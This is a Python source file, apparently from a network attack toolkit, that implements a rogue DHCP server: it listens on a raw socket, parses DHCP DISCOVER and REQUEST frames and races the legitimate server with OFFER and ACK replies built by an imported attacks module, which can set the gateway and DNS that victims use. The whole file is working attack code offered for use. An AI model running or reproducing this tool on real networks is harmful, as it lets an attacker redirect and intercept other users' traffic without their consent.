"""A DHCP server that nobody asked for: answers whoever asks on an interface, faster than the real one if it can."""

import socket
import struct

import attacks
from addresses import ETH_P_ALL, Interface, mac_text
from crafting import Request
from loop import READ

DISCOVER, REQUEST, OFFER, ACK = 1, 3, 2, 5
MESSAGE_TYPE = 53
MAGIC = b"\x63\x82\x53\x63"


class RogueDhcp:
    """{interface, marker, offer, server, gateway?, dns?, netmask?} as for the attack dhcp-offer, without a victim"""

    def __init__(self, loop, request):
        self.loop = loop
        self.request = request
        self.asked = self.acknowledged = 0
        self.own = Interface(request["interface"])
        self.socket = self.own.socket
        self.socket.setblocking(False)
        self.socket.bind((request["interface"], ETH_P_ALL))
        loop.watch(self.socket.fileno(), READ, lambda _: self.receive())

    def receive(self):
        while True:
            try:
                data = self.socket.recv(65536)
            except OSError:
                return
            question = parsed(data)
            if question is not None:
                self.answer(*question)

    def answer(self, kind, xid, client):
        if kind not in (DISCOVER, REQUEST):
            return
        self.asked += 1
        self.acknowledged += kind == REQUEST
        parameters = {**self.request, "victim": {"mac": mac_text(client)}}
        reply = OFFER if kind == DISCOVER else ACK
        for frame in attacks.dhcp_answer(Request(self.own, parameters), reply, xid):
            try:
                self.socket.send(frame)
            except OSError:
                continue

    def report(self):
        return {"asked": self.asked, "acknowledged": self.acknowledged}

    def stop(self):
        last = self.report()
        self.loop.unwatch(self.socket.fileno())
        self.socket.close()
        return last


def parsed(frame):
    """The message type, transaction and client of a frame that asks a DHCP server; None of any other."""
    if len(frame) < 282 or frame[12:14] != b"\x08\x00" or frame[23] != socket.IPPROTO_UDP:
        return None
    start = 14 + (frame[14] & 15) * 4
    if frame[start + 2 : start + 4] != struct.pack("!H", 67):
        return None
    message = frame[start + 8 :]
    at = message.find(MAGIC) + 4
    while 4 <= at < len(message) - 2 and message[at] != 255:
        if message[at] == MESSAGE_TYPE:
            return message[at + 2], struct.unpack_from("!I", message, 4)[0], message[28:34]
        at += 1 if message[at] == 0 else 2 + message[at + 1]
    return None
